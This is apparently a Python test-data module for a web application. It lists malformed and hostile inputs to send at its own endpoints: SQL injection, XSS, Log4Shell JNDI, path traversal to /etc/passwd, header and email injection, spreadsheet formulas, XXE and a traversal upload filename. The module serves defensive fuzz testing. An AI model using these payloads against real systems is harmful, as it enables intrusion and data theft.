"""What nobody should send, written for this product: each text once broke a program somewhere."""

import hashlib
import json
import os
from collections.abc import Sequence

TEXTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31m\x7f",
    "\r\nSet-Cookie: a=b\r\n",
    "\ufeff\u200b\u200d\u2060",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2069",
    "e\u0301" * 40,
    "Z\u0351\u036b\u0343\u036a" * 20,
    "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳\U0010ffff",
    "\ufffe\uffff",
    "İıſßΐﬃ",
    "田中さん مرحبا שלום",
    "٤٢",
    "Ⅳ",
    "²",
    "0",
    "-0",
    "-1",
    "1e999",
    "-1e999",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "1,5",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 4301,
    "1." + "0" * 400 + "1",
    "true",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    '{"a": {"b": [1e999]}}',
    "[" * 3000,
    "%s%n%d%x",
    "{0.__class__}{settings.SECRET_KEY}",
    "{{ 7|add:7 }}{% load static %}",
    "${jndi:ldap://example.invalid/a}",
    "' OR 1=1 --",
    "'; DROP TABLE access_user; --",
    "\\",
    "%",
    "_%_",
    "%00",
    "%ff%fe",
    "%c0%ae%c0%ae/",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "]]><!--",
    "javascript:alert(1)",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "//example.invalid/",
    "https://example.invalid/",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "10000-01-01T00:00",
    "2026-02-30T25:61",
    "2026-06-01T10:00+99:99",
    "00000000-0000-0000-0000-000000000000",
    "nobody@example.invalid\nBcc: everybody@example.invalid",
    "a" * 250 + "@example.org",
    "x" * 70_000,
    "word " * 20_000,
    "\n" * 5000,
]
# Not text at all: an overlong form, half a character, lone surrogates, Latin-1.
BYTES = [b"\xc0\x80", b"\xe2\x82", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xff\xfe\x00", b"caf\xe9"]
VALUES: list[bytes] = [text.encode() for text in TEXTS] + BYTES
# For what takes no long values: addresses and headers, which servers cut off before us.
SHORT = [value for value in VALUES if len(value) < 4000]

# What JSON can carry besides.
JSON_VALUES = [
    "null",
    "true",
    "-1",
    "0.5",
    "1e999",
    "NaN",
    "-Infinity",
    "9" * 400,
    '"\\ud800"',
    '"\\u0000"',
    '"' + "x" * 20_001 + '"',
    "[]",
    "[[[]]]",
    "{}",
    '{"a": 1, "a": 2}',
    "[" * 900 + "]" * 900,
    *(json.dumps(text) for text in TEXTS if len(text) < 4000),
]
DEEP = "[" * 100_000

# Whole bodies under a wrong name: (content type, body).
BODIES: list[tuple[str, bytes]] = [
    ("", b""),
    ("", b"a=b"),
    ("text/plain", b"a=b"),
    ("application/json", b'{"a": 1, "a": [2]}'),
    ("application/json", b"\xff"),
    ("application/json", DEEP.encode()),
    ("application/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    ("multipart/form-data", b"a=b"),
    ("multipart/form-data; boundary=", b"--\r\n\r\n"),
    ("multipart/form-data; boundary=x", b"--y\r\n\r\nno such boundary"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name="),
    ("multipart/form-data; boundary=\xff", b"--\xff\r\n\r\n"),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../a\x00.zip"\r\n\r\n'
        b"PK\x03\x04\r\n--x--\r\n",
    ),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n--x--\r\n",
    ),
    ("application/x-www-form-urlencoded; charset=utf-7", b"a=+ADw-script+AD4-"),
    ("application/x-www-form-urlencoded; charset=nonsense", b"a=b"),
    ("application/x-www-form-urlencoded", b"&&&===&%&%zz=%zz"),
    ("application/x-www-form-urlencoded", b"a=b&" * 5000),
]


def _words(text: str) -> list[str]:
    return text.split()


# What views read from addresses, besides the names that stand in their own pages.
PARAMETERS = _words("""
q page sort tab area a b by next question role level opening state since after cell at do
version from to who kind again process missing
""")
HEADERS = _words("""
Accept Accept-Language Accept-Encoding Content-Type Content-Length Cookie Host If-Match
If-Modified-Since If-None-Match Origin Range Referer Sec-Fetch-Dest Sec-Fetch-Mode Sec-Fetch-Site
User-Agent X-CSRFToken X-Forwarded-For X-Forwarded-Host X-Forwarded-Proto X-Requested-With
HX-Request HX-Target HX-Trigger HX-Current-URL HX-Boosted HX-Prompt
""")

# `make audit` tries everything; otherwise a share that differs from field to field.
LONG = bool(os.environ.get("INTERVIEWBANK_LONG"))


def some(values: Sequence, count: int, *, of: str) -> list:
    """`count` of the values, the same ones each time, others for another `of`."""
    if LONG or count >= len(values):
        return list(values)
    start = int.from_bytes(hashlib.sha256(of.encode()).digest()[:4])
    step = len(values) // count or 1
    return [values[(start + step * number) % len(values)] for number in range(count)]
